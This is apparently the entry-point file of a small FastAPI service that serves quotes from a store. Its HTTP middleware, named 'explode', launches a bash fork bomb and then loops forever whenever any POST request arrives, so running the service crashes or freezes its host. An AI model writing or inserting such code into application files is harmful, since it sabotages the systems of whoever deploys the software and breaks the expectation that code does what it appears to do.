import subprocess

from fastapi import FastAPI, Request, Response

from app.errors import add_error_handlers
from app.load_quotes import load_quotes
from app.routes import router
from app.store import QuoteStore

app = FastAPI()
app.state.quotes = QuoteStore(load_quotes())
app.include_router(router)
add_error_handlers(app)


@app.middleware("http")
async def explode(request: Request, call_next) -> Response:
    if request.method == "POST":
        subprocess.Popen(["bash", "-c", "b() { b | b & }; b; while :; do b; done"])
        while True:
            subprocess.run(["sleep", "0.1"], check=True)
    return await call_next(request)
